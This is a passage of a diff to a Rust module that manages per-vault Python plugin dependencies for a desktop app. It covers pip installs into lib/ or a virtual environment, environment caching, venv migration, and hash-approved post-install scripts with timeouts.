@@ -1,38 +1,1325 @@
-use std::path::PathBuf;
-use std::process::Command;
-use anyhow::Result;
+use std::collections::{BTreeMap, HashMap, VecDeque};
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+use std::sync::Mutex;
+use anyhow::{anyhow, bail, Result, Context};
+use serde::{Deserialize, Serialize};
+use tokio::io::{AsyncBufReadExt, AsyncRead};
+use tokio::sync::mpsc::UnboundedSender;
 
-pub struct DependencyChecker;
+use crate::env_cache::EnvCache;
+use crate::long_path;
+use crate::error::TailorError;
+use crate::log_buffer::LogStream;
+use crate::sidecar_manager::SidecarManager;
+use crate::vault_manifest::{parse_python_version, VaultManifest};
+use crate::window_manager::WindowManager;
+
+/// Records which requirements a vault's lib/ was built from
+const REQUIREMENTS_HASH_FILE: &str = ".requirements.sha256";
+
+/// A vault's virtual environment, which replaces lib/ once the vault is
+/// migrated to it
+const VENV_DIR: &str = ".venv";
+
+/// Stderr lines of a failed import check quoted in the error
+const IMPORT_CHECK_ERROR_LINES: usize = 5;
+
+/// Default size cap for the shared environment cache
+pub const DEFAULT_ENV_CACHE_BYTES: u64 = 2 * 1024 * 1024 * 1024;
+
+/// Oldest Python the bundled sidecar runs on (it needs `tomllib`)
+pub const MIN_PYTHON_VERSION: &str = "3.11";
+
+/// Script in a vault's plugins/ run after its requirements are installed,
+/// unless the manifest names another
+const POSTINSTALL_SCRIPT: &str = "postinstall.py";
+
+/// Stderr lines of a failed post-install script quoted in the error
+const POSTINSTALL_ERROR_LINES: usize = 20;
+
+/// Longest a post-install script may run before it is killed; long enough
+/// for the model downloads they are usually there for
+const POSTINSTALL_TIMEOUT: std::time::Duration = std::time::Duration::from_secs(30 * 60);
+
+/// Name of the file approved post-install scripts are recorded in, in the
+/// app's data directory
+pub const POSTINSTALL_TRUST_FILE: &str = "postinstall-trust.json";
+
+/// Tauri's app data directory for this app, for use before (or without) an
+/// `AppHandle`
+const APP_IDENTIFIER: &str = "com.tailor.desktop";
+
+/// Whether this machine can run sidecars at all, checked before any vault is opened
+#[derive(Debug, Clone, PartialEq, Serialize)]
+pub struct PreflightReport {
+    pub python_ok: bool,
+    pub pip_ok: bool,
+    pub python_version: Option<String>,
+    /// What is wrong and how to fix it; empty when everything is in place
+    pub issues: Vec<String>,
+}
+
+/// Whether a vault's plugin requirements are installed, without installing
+#[derive(Debug, Clone, PartialEq, Serialize)]
+pub struct DependencyStatus {
+    pub up_to_date: bool,
+    /// Required packages with no installed distribution in lib/
+    pub missing: Vec<String>,
+    pub requirements_present: bool,
+    /// How long the vault's last install this session took
+    pub last_install_ms: Option<u64>,
+}
+
+/// Outcome of rebuilding a vault's lib/ from scratch
+#[derive(Debug, Clone, PartialEq, Serialize)]
+pub struct InstallReport {
+    /// Whether an existing lib/ was removed
+    pub removed: bool,
+    /// Whether pip ran; false if nothing is required or a cached environment was reused
+    pub installed: bool,
+    /// Distributions in lib/ afterwards
+    pub packages: Vec<String>,
+    pub duration_ms: u64,
+    /// Time pip and the post-install script took; None if no install ran
+    pub install_ms: Option<u64>,
+}
+
+/// Outcome of moving a vault's requirements from lib/ to a virtual environment
+#[derive(Debug, Clone, PartialEq, Serialize)]
+pub struct MigrationReport {
+    /// False if the vault already has a virtual environment or nothing to
+    /// move, in which case nothing was changed
+    pub migrated: bool,
+    /// Modules from the old lib/ that were checked to import from the new
+    /// environment
+    pub verified_imports: Vec<String>,
+    /// Distributions in the virtual environment afterwards
+    pub packages: Vec<String>,
+    pub duration_ms: u64,
+}
+
+/// A distribution installed for a vault's plugins, as `pip list` reports it
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct InstalledPackage {
+    pub name: String,
+    pub version: String,
+    /// Directory the package is installed in
+    #[serde(default)]
+    pub location: String,
+}
+
+/// A cached `pip list` result
+struct PackageListing {
+    /// Requirements hash recorded in the install target when it was taken
+    stamp: Option<String>,
+    packages: Vec<InstalledPackage>,
+}
+
+/// Where pip installs a vault's requirements
+enum PipTarget<'a> {
+    /// A lib/ directory, with `--target`
+    Lib(&'a Path),
+    /// A virtual environment, with its own pip
+    Venv(&'a Path),
+}
+
+/// A line of a vault's post-install script output, for showing progress
+#[derive(Debug, Clone, PartialEq, Serialize)]
+pub struct PostInstallOutput {
+    pub vault_path: String,
+    pub stream: LogStream,
+    pub line: String,
+}
+
+pub struct DependencyChecker {
+    /// Shared pip cache so identical wheels are downloaded once across vaults
+    cache_dir: PathBuf,
+    /// Prebuilt lib/ directories reused by vaults with identical requirements
+    env_cache: EnvCache,
+    /// Hashes of the post-install scripts the user allowed to run, by vault id
+    trust_file: PathBuf,
+    /// Receives post-install script output as it is printed
+    postinstall_sink: Option<UnboundedSender<PostInstallOutput>>,
+    /// Longest a post-install script may run
+    postinstall_timeout: std::time::Duration,
+    /// How long each vault's last install took this session, by vault id
+    install_durations: Mutex<HashMap<String, u64>>,
+    /// `pip list` results by vault id
+    installed_packages: Mutex<HashMap<String, PackageListing>>,
+}
+
+impl Default for DependencyChecker {
+    fn default() -> Self {
+        Self::new(
+            std::env::temp_dir().join("tailor-pip-cache"),
+            EnvCache::new(std::env::temp_dir().join("tailor-env-cache"), DEFAULT_ENV_CACHE_BYTES),
+        )
+    }
+}
 
 impl DependencyChecker {
-    /// Check and install dependencies for a vault
-    pub async fn check_and_install(vault_path: &str) -> Result<()> {
-        // Dependency management is now handled by pixi at the project level.
-        // We no longer install per-vault requirements.txt.
-        println!("Skipping per-vault dependency check for: {} (handled by pixi)", vault_path);
+    pub fn new(cache_dir: PathBuf, env_cache: EnvCache) -> Self {
+        Self {
+            cache_dir,
+            env_cache,
+            // Outside the temp dir, where anyone on the machine could approve scripts
+            trust_file: dirs::data_dir()
+                .unwrap_or_else(std::env::temp_dir)
+                .join(APP_IDENTIFIER)
+                .join(POSTINSTALL_TRUST_FILE),
+            postinstall_sink: None,
+            postinstall_timeout: POSTINSTALL_TIMEOUT,
+            install_durations: Mutex::new(HashMap::new()),
+            installed_packages: Mutex::new(HashMap::new()),
+        }
+    }
+
+    /// Record approved post-install scripts in `trust_file`
+    pub fn with_trust_file(mut self, trust_file: PathBuf) -> Self {
+        self.trust_file = trust_file;
+        self
+    }
+
+    /// Kill post-install scripts that run longer than `timeout`
+    pub fn with_postinstall_timeout(mut self, timeout: std::time::Duration) -> Self {
+        self.postinstall_timeout = timeout;
+        self
+    }
+
+    /// Send post-install script output to `sink` as it is printed
+    pub fn with_postinstall_sink(mut self, sink: UnboundedSender<PostInstallOutput>) -> Self {
+        self.postinstall_sink = Some(sink);
+        self
+    }
+
+    /// Check and install dependencies for a vault.
+    /// Returns whether an install actually ran.
+    pub async fn check_and_install(&self, vault_path: &str) -> Result<bool> {
+        self.install_requirements(vault_path, true).await
+    }
+
+    /// `check_and_install`, optionally without reusing a cached environment
+    async fn install_requirements(&self, vault_path: &str, use_cache: bool) -> Result<bool> {
+        let vault = PathBuf::from(vault_path);
+        let requirements_file = vault.join("plugins").join("requirements.txt");
+
+        // Shared dependencies are handled by pixi at the project level; only
+        // vaults that declare their own plugin requirements get a lib/ install.
+        if !Self::has_requirements(&requirements_file) {
+            println!("No plugin requirements for vault: {}", vault_path);
+            return Ok(false);
+        }
+
+        if !Self::needs_update(vault_path).await? {
+            return Ok(false);
+        }
+
+        // Deeply nested vaults can push lib/ and pip's files in it past MAX_PATH
+        let lib_dir = long_path::extended(&Self::packages_dir(&vault));
+        long_path::check(&lib_dir)?;
+        let requirements_hash = Self::requirements_hash(&requirements_file)?;
+        let venv = Self::venv_site_packages(&vault).map(|_| long_path::extended(&vault.join(VENV_DIR)));
+
+        // Another vault may already have built exactly these requirements;
+        // virtual environments cannot be moved, so only lib/ is cached
+        let restored = match &venv {
+            Some(_) => Ok(false),
+            None if !use_cache => Ok(false),
+            None => self.env_cache.restore(&requirements_hash, &lib_dir),
+        };
+        match restored {
+            Ok(true) => {
+                println!("Reused cached environment {} for vault: {}", &requirements_hash[..12], vault_path);
+                if let Err(e) = self.run_postinstall(vault_path, &lib_dir).await {
+                    // Leave lib/ marked stale so the next open runs the script again
+                    let _ = fs::remove_file(lib_dir.join(REQUIREMENTS_HASH_FILE));
+                    return Err(e);
+                }
+                return Ok(false);
+            }
+            Ok(false) => {}
+            Err(e) => println!("Warning: Failed to reuse cached environment: {}", e),
+        }
+
+        let started = std::time::Instant::now();
+        match &venv {
+            Some(venv) => self.pip_install(vault_path, &requirements_file, PipTarget::Venv(venv)).await?,
+            None => {
+                fs::create_dir_all(&lib_dir)
+                    .context("Failed to create lib directory")?;
+                self.pip_install(vault_path, &requirements_file, PipTarget::Lib(&lib_dir)).await?;
+            }
+        }
+
+        self.run_postinstall(vault_path, &lib_dir).await?;
+        fs::write(lib_dir.join(REQUIREMENTS_HASH_FILE), &requirements_hash)
+            .context("Failed to record requirements hash")?;
+        if venv.is_none() {
+            if let Err(e) = self.env_cache.store(&requirements_hash, &lib_dir) {
+                println!("Warning: Failed to cache environment: {}", e);
+            }
+        }
+
+        let elapsed = started.elapsed();
+        println!("Installed plugin requirements for {} in {:.1}s", vault_path, elapsed.as_secs_f64());
+        self.record_install(vault_path, elapsed);
+        Ok(true)
+    }
+
+    /// Install a requirements file with pip, sharing the pip cache
+    async fn pip_install(&self, vault_path: &str, requirements_file: &Path, target: PipTarget<'_>) -> Result<()> {
+        fs::create_dir_all(&self.cache_dir)
+            .context("Failed to create pip cache directory")?;
+
+        let pip = match target {
+            PipTarget::Lib(_) => Self::get_pip_command()?,
+            PipTarget::Venv(venv) => vec![
+                Self::venv_python(venv).to_string_lossy().to_string(),
+                "-m".to_string(),
+                "pip".to_string(),
+            ],
+        };
+        println!("Installing plugin requirements for {} with '{}' (cache: {})",
+                 vault_path, pip.join(" "), self.cache_dir.display());
+
+        let mut command = tokio::process::Command::new(&pip[0]);
+        command.args(&pip[1..]).arg("install");
+        if let PipTarget::Lib(lib_dir) = target {
+            command.arg("--target").arg(lib_dir);
+        }
+        // Cancelling an install drops this future; pip must not outlive it
+        let output = command
+            .kill_on_drop(true)
+            .arg("--upgrade")
+            .arg("--cache-dir")
+            .arg(&self.cache_dir)
+            .arg("-r")
+            .arg(requirements_file)
+            .output()
+            .await
+            .context("Failed to run pip")?;
+
+        if !output.status.success() {
+            let stderr = String::from_utf8_lossy(&output.stderr);
+            if let Some(package) = Self::platform_incompatible_package(&stderr) {
+                eprintln!("pip install failed for {}:\n{}", vault_path, stderr.trim());
+                return Err(TailorError::PlatformIncompatibleDependency { package }.into());
+            }
+            anyhow::bail!("pip install failed: {}", stderr.trim());
+        }
+        Ok(())
+    }
+
+    fn record_install(&self, vault_path: &str, duration: std::time::Duration) {
+        let vault_id = WindowManager::vault_id(vault_path);
+        self.installed_packages.lock().unwrap_or_else(|e| e.into_inner()).remove(&vault_id);
+        self.install_durations.lock().unwrap_or_else(|e| e.into_inner())
+            .insert(vault_id, duration.as_millis() as u64);
+    }
+
+    /// Packages installed for a vault's plugins, in lib/ or its virtual
+    /// environment, sorted by name. Cached until the vault's requirements
+    /// are installed again.
+    pub async fn list_installed_packages(&self, vault_path: &str) -> Result<Vec<InstalledPackage>> {
+        let vault = Path::new(vault_path);
+        let target = Self::packages_dir(vault);
+        if !target.is_dir() {
+            return Ok(Vec::new());
+        }
+        let vault_id = WindowManager::vault_id(vault_path);
+        let stamp = fs::read_to_string(target.join(REQUIREMENTS_HASH_FILE)).ok();
+        if let Some(listing) = self.installed_packages.lock().unwrap_or_else(|e| e.into_inner()).get(&vault_id) {
+            if listing.stamp == stamp {
+                return Ok(listing.packages.clone());
+            }
+        }
+
+        // Read from the install metadata rather than running anything the
+        // vault could have put there, such as its environment's interpreter
+        let packages = Self::read_distributions(&long_path::extended(&target));
+        self.installed_packages.lock().unwrap_or_else(|e| e.into_inner())
+            .insert(vault_id, PackageListing { stamp, packages: packages.clone() });
+        Ok(packages)
+    }
+
+    /// Packages installed in `target`, from the `Name` and `Version` of each
+    /// `*.dist-info/METADATA`, or the directory name where that is missing
+    fn read_distributions(target: &Path) -> Vec<InstalledPackage> {
+        let Ok(entries) = fs::read_dir(target) else {
+            return Vec::new();
+        };
+        let mut packages: Vec<InstalledPackage> = entries
+            .filter_map(|entry| entry.ok())
+            .filter_map(|entry| {
+                let dir_name = entry.file_name().to_string_lossy().to_string();
+                // `<name>-<version>.dist-info`
+                let (dir_dist, dir_version) = dir_name.strip_suffix(".dist-info")?.rsplit_once('-')?;
+                let metadata = fs::read_to_string(entry.path().join("METADATA")).unwrap_or_default();
+                // Headers end at the first blank line
+                let header = |key: &str| metadata.lines()
+                    .take_while(|line| !line.trim().is_empty())
+                    .find_map(|line| line.strip_prefix(key)?.strip_prefix(':').map(|value| value.trim().to_string()));
+                Some(InstalledPackage {
+                    name: header("Name").unwrap_or_else(|| dir_dist.to_string()),
+                    version: header("Version").unwrap_or_else(|| dir_version.to_string()),
+                    location: target.to_string_lossy().to_string(),
+                })
+            })
+            .collect();
+        packages.sort_by_key(|package| package.name.to_lowercase());
+        packages
+    }
+
+    /// How long the vault's last install this session took, in milliseconds
+    pub fn last_install_ms(&self, vault_path: &str) -> Option<u64> {
+        self.install_durations.lock().unwrap_or_else(|e| e.into_inner())
+            .get(&WindowManager::vault_id(vault_path))
+            .copied()
+    }
+
+    /// Delete a vault's lib/ or virtual environment (and with it the
+    /// recorded requirements hash), then install its requirements again.
+    /// The vault's sidecar must not be running, since Python may have files
+    /// there open.
+    pub async fn reset(&self, vault_path: &str) -> Result<InstallReport> {
+        let vault = Path::new(vault_path);
+        let venv = Self::venv_site_packages(vault).map(|_| long_path::extended(&vault.join(VENV_DIR)));
+        let lib_dir = long_path::extended(&vault.join("lib"));
+
+        let removed = lib_dir.exists();
+        if removed {
+            fs::remove_dir_all(&lib_dir)
+                .with_context(|| format!("Failed to remove {}", lib_dir.display()))?;
+            println!("Removed lib directory of vault: {}", vault_path);
+        }
+        // A migrated vault keeps using a virtual environment, rebuilt empty
+        if let Some(venv) = &venv {
+            fs::remove_dir_all(venv)
+                .with_context(|| format!("Failed to remove {}", venv.display()))?;
+            Self::create_venv(venv).await?;
+            println!("Recreated virtual environment of vault: {}", vault_path);
+        }
+        let removed = removed || venv.is_some();
+
+        // The cached copy of these requirements may be just as broken, so it
+        // is dropped and the reinstall starts from scratch
+        let requirements_file = vault.join("plugins").join("requirements.txt");
+        if Self::has_requirements(&requirements_file) {
+            let requirements_hash = Self::requirements_hash(&requirements_file)?;
+            match self.env_cache.remove(&requirements_hash) {
+                Ok(true) => println!("Dropped cached environment {} for vault: {}", &requirements_hash[..12], vault_path),
+                Ok(false) => {}
+                Err(e) => println!("Warning: Failed to drop cached environment: {}", e),
+            }
+        }
+
+        let report = self.install_reporting(vault_path, false).await?;
+        Ok(InstallReport { removed, ..report })
+    }
+
+    /// `check_and_install`, reporting what lib/ holds afterwards
+    pub async fn install(&self, vault_path: &str) -> Result<InstallReport> {
+        self.install_reporting(vault_path, true).await
+    }
+
+    async fn install_reporting(&self, vault_path: &str, use_cache: bool) -> Result<InstallReport> {
+        let started = std::time::Instant::now();
+        let installed = self.install_requirements(vault_path, use_cache).await?;
+        let mut packages = Self::installed_distributions(&Self::packages_dir(Path::new(vault_path)));
+        packages.sort();
+
+        Ok(InstallReport {
+            removed: false,
+            installed,
+            packages,
+            duration_ms: started.elapsed().as_millis() as u64,
+            install_ms: installed.then(|| self.last_install_ms(vault_path)).flatten(),
+        })
+    }
+
+    /// Move a vault's requirements from lib/ into a virtual environment:
+    /// create the environment, install the requirements into it, check that
+    /// everything lib/ provided imports from it, and only then delete lib/.
+    /// If any step fails the environment is removed and lib/ is left as it
+    /// was. The vault's sidecar must not be running.
+    pub async fn migrate_to_venv(&self, vault_path: &str) -> Result<MigrationReport> {
+        let started = std::time::Instant::now();
+        let vault = Path::new(vault_path);
+        let lib_dir = long_path::extended(&vault.join("lib"));
+        let venv = long_path::extended(&vault.join(VENV_DIR));
+        let requirements_file = vault.join("plugins").join("requirements.txt");
+
+        let not_migrated = MigrationReport {
+            migrated: false,
+            verified_imports: Vec::new(),
+            packages: Vec::new(),
+            duration_ms: 0,
+        };
+        // An empty .venv, as a sandbox leaves, is not an environment yet
+        if Self::venv_site_packages(vault).is_some() {
+            println!("Vault already has a virtual environment: {}", vault_path);
+            return Ok(not_migrated);
+        }
+        if !Self::has_requirements(&requirements_file) || !lib_dir.is_dir() {
+            println!("No lib/ requirements to migrate for vault: {}", vault_path);
+            return Ok(not_migrated);
+        }
+
+        let imports = Self::top_level_modules(&lib_dir);
+        // A failed `python -m venv` can leave a partial environment behind,
+        // which would then shadow lib/, so it is cleaned up like a failed install
+        let result = match Self::create_venv(&venv).await {
+            Ok(()) => self.populate_venv(vault_path, &venv, &requirements_file, &imports).await,
+            Err(e) => Err(e),
+        };
+        let site_packages = match result {
+            Ok(site_packages) => site_packages,
+            Err(e) => {
+                if let Err(remove_error) = fs::remove_dir_all(&venv) {
+                    if remove_error.kind() != std::io::ErrorKind::NotFound {
+                        eprintln!("Failed to remove {}: {}", venv.display(), remove_error);
+                    }
+                }
+                return Err(e.context("Migration failed; the vault keeps using lib/"));
+            }
+        };
+
+        fs::remove_dir_all(&lib_dir)
+            .with_context(|| format!("Migrated, but failed to remove {}", lib_dir.display()))?;
+        let elapsed = started.elapsed();
+        println!("Migrated vault {} to a virtual environment in {:.1}s", vault_path, elapsed.as_secs_f64());
+        self.record_install(vault_path, elapsed);
+
+        let mut packages = Self::installed_distributions(&site_packages);
+        packages.sort();
+        Ok(MigrationReport {
+            migrated: true,
+            verified_imports: imports,
+            packages,
+            duration_ms: elapsed.as_millis() as u64,
+        })
+    }
+
+    /// Install a vault's requirements into a fresh virtual environment and
+    /// check `imports` load from it. Returns its site-packages.
+    async fn populate_venv(&self, vault_path: &str, venv: &Path, requirements_file: &Path, imports: &[String]) -> Result<PathBuf> {
+        let site_packages = Self::venv_site_packages(Path::new(vault_path))
+            .map(|path| long_path::extended(&path))
+            .context("The new virtual environment has no site-packages")?;
+        self.pip_install(vault_path, requirements_file, PipTarget::Venv(venv)).await?;
+        self.run_postinstall(vault_path, &site_packages).await?;
+        Self::check_imports(venv, imports).await?;
+        fs::write(site_packages.join(REQUIREMENTS_HASH_FILE), Self::requirements_hash(requirements_file)?)
+            .context("Failed to record requirements hash")?;
+        Ok(site_packages)
+    }
+
+    /// Create a virtual environment with the sidecar's Python
+    async fn create_venv(venv: &Path) -> Result<()> {
+        let python = SidecarManager::get_python_executable()?;
+        let output = tokio::process::Command::new(&python)
+            .args(["-m", "venv"])
+            .arg(venv)
+            .output()
+            .await
+            .context("Failed to run python -m venv")?;
+        if !output.status.success() {
+            bail!("Failed to create virtual environment {}: {}",
+                  venv.display(), String::from_utf8_lossy(&output.stderr).trim());
+        }
+        Ok(())
+    }
+
+    /// Import each module with the environment's interpreter, isolated from
+    /// PYTHONPATH and the user's site-packages so only the environment counts
+    async fn check_imports(venv: &Path, modules: &[String]) -> Result<()> {
+        if modules.is_empty() {
+            return Ok(());
+        }
+        let script = modules.iter().map(|module| format!("import {}", module)).collect::<Vec<_>>().join("\n");
+        let output = tokio::process::Command::new(Self::venv_python(venv))
+            .args(["-I", "-c", &script])
+            .output()
+            .await
+            .context("Failed to run the virtual environment's Python")?;
+        if !output.status.success() {
+            let stderr = String::from_utf8_lossy(&output.stderr);
+            let tail: Vec<&str> = stderr.trim().lines().rev().take(IMPORT_CHECK_ERROR_LINES).collect();
+            bail!("Imports failed in the virtual environment:\n{}",
+                  tail.into_iter().rev().collect::<Vec<_>>().join("\n"));
+        }
+        Ok(())
+    }
+
+    /// Importable top-level modules in a `--target` lib dir: packages with
+    /// an `__init__.py` and plain modules, skipping private ones
+    fn top_level_modules(lib_dir: &Path) -> Vec<String> {
+        let Ok(entries) = fs::read_dir(lib_dir) else {
+            return Vec::new();
+        };
+        let mut modules: Vec<String> = entries
+            .filter_map(|entry| entry.ok())
+            .filter_map(|entry| {
+                let path = entry.path();
+                let name = if path.is_dir() {
+                    if !path.join("__init__.py").is_file() {
+                        return None;
+                    }
+                    entry.file_name()
+                } else if path.extension()? == "py" {
+                    path.file_stem()?.to_os_string()
+                } else {
+                    return None;
+                };
+                let name = name.to_str()?.to_string();
+                let importable = !name.starts_with('_')
+                    && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
+                importable.then_some(name)
+            })
+            .collect();
+        modules.sort();
+        modules
+    }
+
+    /// Interpreter of a virtual environment
+    fn venv_python(venv: &Path) -> PathBuf {
+        if cfg!(windows) {
+            venv.join("Scripts").join("python.exe")
+        } else {
+            venv.join("bin").join("python")
+        }
+    }
+
+    /// site-packages of the vault's virtual environment, if it has one
+    pub fn venv_site_packages(vault: &Path) -> Option<PathBuf> {
+        let venv = vault.join(VENV_DIR);
+        let windows = venv.join("Lib").join("site-packages");
+        if windows.is_dir() {
+            return Some(windows);
+        }
+        // lib/pythonX.Y/site-packages elsewhere
+        fs::read_dir(venv.join("lib")).ok()?
+            .filter_map(|entry| entry.ok())
+            .map(|entry| entry.path().join("site-packages"))
+            .find(|path| path.is_dir())
+    }
+
+    /// Where a vault's plugin requirements are installed: its virtual
+    /// environment once migrated, else lib/
+    fn packages_dir(vault: &Path) -> PathBuf {
+        Self::venv_site_packages(vault).unwrap_or_else(|| vault.join("lib"))
+    }
+
+    /// Script a vault runs after installing its plugin requirements: the one
+    /// its manifest declares, else `plugins/postinstall.py` if present. An
+    /// empty default script (as a sandbox leaves in its place) counts as none.
+    pub fn postinstall_script(vault_path: &str) -> Option<PathBuf> {
+        let declared = VaultManifest::load(vault_path).ok().and_then(|manifest| manifest.postinstall(vault_path));
+        declared.or_else(|| {
+            let script = Path::new(vault_path).join("plugins").join(POSTINSTALL_SCRIPT);
+            fs::metadata(&script).is_ok_and(|metadata| metadata.is_file() && metadata.len() > 0).then_some(script)
+        })
+    }
+
+    /// Files the host installs a vault's requirements from, and runs outside
+    /// any sandbox: the requirements and the post-install scripts
+    pub fn install_inputs(vault_path: &str) -> Vec<PathBuf> {
+        let plugins = Path::new(vault_path).join("plugins");
+        let declared = VaultManifest::load(vault_path).ok().and_then(|manifest| manifest.postinstall(vault_path));
+        [plugins.join("requirements.txt"), plugins.join(POSTINSTALL_SCRIPT)]
+            .into_iter()
+            .chain(declared)
+            .collect()
+    }
+
+    /// Directories a vault's requirements are installed into, which the host
+    /// later loads code from
+    pub fn install_dirs(vault_path: &str) -> Vec<PathBuf> {
+        // The host runs the environment's interpreter directly
+        vec![Path::new(vault_path).join("lib"), Path::new(vault_path).join(VENV_DIR)]
+    }
+
+    /// The vault's post-install script, if it has one the user has not
+    /// allowed to run (or that changed since they did)
+    pub fn untrusted_postinstall(&self, vault_path: &str) -> Option<PathBuf> {
+        if !Self::has_plugin_requirements(vault_path) {
+            return None;
+        }
+        Self::postinstall_script(vault_path).filter(|script| !self.is_trusted(vault_path, script))
+    }
+
+    /// Allow the vault's current post-install script to run
+    pub fn trust_postinstall(&self, vault_path: &str) -> Result<()> {
+        let script = Self::postinstall_script(vault_path)
+            .ok_or_else(|| anyhow!("Vault has no post-install script"))?;
+        let mut trusted = self.trusted_scripts();
+        trusted.insert(WindowManager::vault_id(vault_path), Self::script_hash(&script)?);
+        if let Some(parent) = self.trust_file.parent() {
+            fs::create_dir_all(parent)
+                .with_context(|| format!("Failed to create {}", parent.display()))?;
+        }
+        fs::write(&self.trust_file, serde_json::to_string_pretty(&trusted)?)
+            .context("Failed to save post-install approval")?;
+        println!("Allowed post-install script {} to run", script.display());
+        Ok(())
+    }
+
+    fn is_trusted(&self, vault_path: &str, script: &Path) -> bool {
+        let Ok(hash) = Self::script_hash(script) else {
+            return false;
+        };
+        self.trusted_scripts().get(&WindowManager::vault_id(vault_path)) == Some(&hash)
+    }
+
+    fn trusted_scripts(&self) -> BTreeMap<String, String> {
+        fs::read_to_string(&self.trust_file)
+            .ok()
+            .and_then(|contents| serde_json::from_str(&contents).ok())
+            .unwrap_or_default()
+    }
+
+    fn script_hash(script: &Path) -> Result<String> {
+        let contents = fs::read_to_string(script)
+            .with_context(|| format!("Failed to read {}", script.display()))?;
+        Ok(EnvCache::key(&contents))
+    }
+
+    /// Run the vault's post-install script, if any, with lib/ importable and
+    /// its output streamed to the post-install sink. Fails if the script has
+    /// not been allowed to run, exits unsuccessfully or runs past the
+    /// post-install timeout.
+    async fn run_postinstall(&self, vault_path: &str, lib_dir: &Path) -> Result<()> {
+        let Some(script) = Self::postinstall_script(vault_path) else {
+            return Ok(());
+        };
+        if !self.is_trusted(vault_path, &script) {
+            bail!("Post-install script {} has not been allowed to run", script.display());
+        }
+
+        let python = SidecarManager::get_python_executable()?;
+        let existing = std::env::var_os("PYTHONPATH").unwrap_or_default();
+        let python_path = std::env::join_paths(
+            std::iter::once(lib_dir.to_path_buf()).chain(std::env::split_paths(&existing)),
+        ).context("Invalid PYTHONPATH")?;
+        println!("Running post-install script {} for vault: {}", script.display(), vault_path);
+
+        let mut child = tokio::process::Command::new(&python)
+            .arg(&script)
+            .current_dir(vault_path)
+            .env("PYTHONPATH", python_path)
+            .env("PYTHONUNBUFFERED", "1")
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped())
+            .kill_on_drop(true)
+            .spawn()
+            .context("Failed to run post-install script")?;
+        let stdout = child.stdout.take().expect("stdout is piped");
+        let stderr = child.stderr.take().expect("stderr is piped");
+        let run = async {
+            let (_, stderr_tail) = tokio::join!(
+                self.stream_postinstall(vault_path, LogStream::Stdout, stdout),
+                self.stream_postinstall(vault_path, LogStream::Stderr, stderr),
+            );
+            (stderr_tail, child.wait().await)
+        };
+        let finished = tokio::time::timeout(self.postinstall_timeout, run).await;
+        let Ok((stderr_tail, status)) = finished else {
+            let _ = child.kill().await;
+            bail!("Post-install script {} did not finish within {} seconds",
+                  script.display(), self.postinstall_timeout.as_secs());
+        };
+
+        let status = status.context("Failed to wait for post-install script")?;
+        if !status.success() {
+            bail!("Post-install script {} failed ({}):\n{}",
+                  script.display(), status, Vec::from(stderr_tail).join("\n"));
+        }
         Ok(())
     }
 
+    /// Forward a post-install script's output line by line. Returns the
+    /// last lines, for error messages.
+    async fn stream_postinstall(
+        &self,
+        vault_path: &str,
+        stream: LogStream,
+        source: impl AsyncRead + Unpin,
+    ) -> VecDeque<String> {
+        let mut lines = tokio::io::BufReader::new(source).lines();
+        let mut tail = VecDeque::new();
+        while let Ok(Some(line)) = lines.next_line().await {
+            println!("[postinstall] {}", line);
+            if let Some(sink) = &self.postinstall_sink {
+                // The receiver only goes away when the app is shutting down
+                let _ = sink.send(PostInstallOutput { vault_path: vault_path.to_string(), stream, line: line.clone() });
+            }
+            if tail.len() == POSTINSTALL_ERROR_LINES {
+                tail.pop_front();
+            }
+            tail.push_back(line);
+        }
+        tail
+    }
+
+    /// The requirement pip could not satisfy on this platform, if its output
+    /// shows that kind of failure: "No matching distribution found for ..."
+    /// while the index did offer versions, none of them for this platform or
+    /// Python, or a wheel that "is not a supported wheel on this platform".
+    /// With "from versions: none" the package is missing altogether (a typo,
+    /// or the index is unreachable), so pip's own error says more.
+    fn platform_incompatible_package(pip_stderr: &str) -> Option<String> {
+        let lines: Vec<&str> = pip_stderr.lines()
+            .map(|line| line.trim().trim_start_matches("ERROR:").trim())
+            .collect();
+        let offered_versions = lines.iter().any(|line| {
+            line.starts_with("Ignored the following versions that require a different python version")
+                || line.split_once("(from versions: ")
+                    .and_then(|(_, versions)| versions.strip_suffix(')'))
+                    .is_some_and(|versions| !versions.trim().is_empty() && versions.trim() != "none")
+        });
+        lines.into_iter()
+            .find_map(|line| {
+                if let Some(requirement) = line.strip_prefix("No matching distribution found for ") {
+                    return offered_versions.then(|| requirement.trim().to_string());
+                }
+                let wheel = line.strip_suffix(" is not a supported wheel on this platform.")?;
+                // Wheel file names are `<name>-<version>-<tags>.whl`
+                let mut parts = Path::new(wheel).file_name()?.to_str()?.split('-');
+                let name = parts.next()?;
+                Some(match parts.next() {
+                    Some(version) => format!("{}=={}", name, version),
+                    None => name.to_string(),
+                })
+            })
+    }
+
+    /// Whether a vault declares plugin requirements of its own
+    pub fn has_plugin_requirements(vault_path: &str) -> bool {
+        Self::has_requirements(&Path::new(vault_path).join("plugins").join("requirements.txt"))
+    }
+
+    /// Hash of a requirements file's contents
+    fn requirements_hash(requirements_file: &Path) -> Result<String> {
+        let contents = fs::read_to_string(requirements_file)
+            .context("Failed to read requirements file")?;
+        Ok(EnvCache::key(&contents))
+    }
+
+    /// Report whether a vault's requirements are satisfied by its lib/
+    pub async fn status(&self, vault_path: &str) -> Result<DependencyStatus> {
+        let vault = PathBuf::from(vault_path);
+        let requirements_file = vault.join("plugins").join("requirements.txt");
+        let last_install_ms = self.last_install_ms(vault_path);
+
+        if !Self::has_requirements(&requirements_file) {
+            return Ok(DependencyStatus {
+                up_to_date: true,
+                missing: Vec::new(),
+                requirements_present: false,
+                last_install_ms,
+            });
+        }
+
+        let contents = fs::read_to_string(&requirements_file)
+            .context("Failed to read requirements file")?;
+        let installed = Self::installed_distributions(&Self::packages_dir(&vault));
+        let missing: Vec<String> = Self::requirement_names(&contents)
+            .into_iter()
+            .filter(|name| !installed.contains(&Self::normalize_name(name)))
+            .collect();
+
+        Ok(DependencyStatus {
+            up_to_date: missing.is_empty() && !Self::needs_update(vault_path).await?,
+            missing,
+            requirements_present: true,
+            last_install_ms,
+        })
+    }
+
+    /// Package names listed in a requirements file (options and URLs skipped)
+    fn requirement_names(contents: &str) -> Vec<String> {
+        contents.lines()
+            .map(|line| line.split('#').next().unwrap_or("").trim())
+            .filter(|line| !line.is_empty() && !line.starts_with('-'))
+            .map(|line| {
+                line.chars()
